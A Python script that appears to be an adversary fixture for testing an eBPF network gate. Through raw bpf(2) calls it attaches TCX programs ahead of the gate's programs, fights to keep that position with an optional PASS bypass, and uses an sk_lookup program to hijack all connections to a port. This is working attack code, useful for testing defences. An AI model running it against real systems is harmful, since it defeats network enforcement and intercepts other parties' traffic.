#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""intruder.py - programs that somebody with CAP_BPF in a pod puts beside the gate's, by raw bpf(2).

intruder.py ahead ingress|egress IFACE  ahead of all: "ahead", then "outranked SECONDS" when it no longer is
intruder.py fight IFACE SECONDS [PASS]  gets ahead again each time: "fought N", so often it was overtaken;
                                        with PASS nobody behind it is asked
intruder.py steal PORT                  sk_lookup that gives every connection to a listener on PORT: "stealing"
"""
import ctypes, os, socket, struct, sys, time

MAP_CREATE, MAP_UPDATE, PROG_LOAD, PROG_QUERY, LINK_CREATE = 0, 2, 5, 16, 28
SCHED_CLS, SK_LOOKUP, SOCKMAP = 3, 30, 15
INGRESS, EGRESS, ATTACH_SK_LOOKUP, F_BEFORE = 46, 47, 36, 8
TCX_NEXT, TCX_PASS = -1, 0
LIBC = ctypes.CDLL(None, use_errno=True)
NUMBER = {"x86_64": 321, "aarch64": 280}[os.uname().machine]


def bpf(command, attr):
    attr = ctypes.create_string_buffer(attr, 128)
    got = LIBC.syscall(NUMBER, command, attr, 128)
    if got < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return got, attr.raw


def insn(code, dst=0, src=0, off=0, imm=0):
    return struct.pack("<BBhi", code, src << 4 | dst, off, imm)


def load(kind, code, attach=0):
    code, text = ctypes.create_string_buffer(code), ctypes.create_string_buffer(b"GPL")
    return bpf(PROG_LOAD, struct.pack("<IIQQIIQII16sII", kind, len(code) // 8, ctypes.addressof(code), ctypes.addressof(text),
                                      0, 0, 0, 0, 0, b"intruder", 0, attach))[0]


def returns(verdict):
    return load(SCHED_CLS, insn(0xb7, imm=verdict) + insn(0x95))


def attach(prog, target, where, flags=0):
    return bpf(LINK_CREATE, struct.pack("<IIII", prog, target, where, flags))[0]


def first(ifindex, where):
    ids = (ctypes.c_uint32 * 64)()
    bpf(PROG_QUERY, struct.pack("<IIIIQI", ifindex, where, 0, 0, ctypes.addressof(ids), 64))
    return ids[0]


def wait_outranked(ifindex, where, until):
    mine = first(ifindex, where)
    while first(ifindex, where) == mine and time.monotonic() < until:
        time.sleep(0.005)
    return first(ifindex, where) != mine


def ahead(direction, iface):
    where, ifindex = {"ingress": INGRESS, "egress": EGRESS}[direction], socket.if_nametoindex(iface)
    attach(returns(TCX_NEXT), ifindex, where, F_BEFORE)
    print("ahead", flush=True)
    began = time.monotonic()
    if wait_outranked(ifindex, where, began + 10):
        print("outranked %.3f" % (time.monotonic() - began), flush=True)
    time.sleep(60)


def fight(iface, seconds, verdict="NEXT"):
    prog = returns(TCX_PASS if verdict == "PASS" else TCX_NEXT)
    ifindex, until, n, link = socket.if_nametoindex(iface), time.monotonic() + float(seconds), 0, -1
    while time.monotonic() < until:
        if link >= 0:
            os.close(link)
        try:
            link = attach(prog, ifindex, INGRESS, F_BEFORE)
        except FileExistsError:  # the old link is freed by a worker
            link = -1
            time.sleep(0.005)
            continue
        n += wait_outranked(ifindex, INGRESS, until)
    print("fought %d" % n, flush=True)
    time.sleep(60)


def steal(port):
    server = socket.create_server(("", int(port)))
    sockets = bpf(MAP_CREATE, struct.pack("<IIII", SOCKMAP, 4, 8, 1))[0]
    key, value = ctypes.create_string_buffer(struct.pack("<I", 0)), ctypes.create_string_buffer(struct.pack("<Q", server.fileno()))
    bpf(MAP_UPDATE, struct.pack("<IIQQQ", sockets, 0, ctypes.addressof(key), ctypes.addressof(value), 0))
    # r6 = ctx; sk = lookup(map, 0); if (!sk) return SK_PASS; assign(ctx, sk, 0); release(sk); return SK_PASS
    code = [insn(0xbf, 6, 1), insn(0x62, 10, 0, -4, 0), insn(0x18, 1, 1, 0, sockets), insn(0), insn(0xbf, 2, 10), insn(0x07, 2, 0, 0, -4),
            insn(0x85, imm=1), insn(0x55, 0, 0, 2), insn(0xb7, imm=1), insn(0x95), insn(0xbf, 7, 0), insn(0xbf, 1, 6), insn(0xbf, 2, 7),
            insn(0xb7, 3), insn(0x85, imm=124), insn(0xbf, 1, 7), insn(0x85, imm=86), insn(0xb7, imm=1), insn(0x95)]
    attach(load(SK_LOOKUP, b"".join(code), ATTACH_SK_LOOKUP), os.open("/proc/self/ns/net", os.O_RDONLY), ATTACH_SK_LOOKUP)
    print("stealing", flush=True)
    while True:
        connection = server.accept()[0]
        connection.sendall(b"stolen\n")
        connection.close()


try:
    {"ahead": ahead, "fight": fight, "steal": steal}[sys.argv[1]](*sys.argv[2:])
except OSError as e:
    print("can't: %s" % e, flush=True)
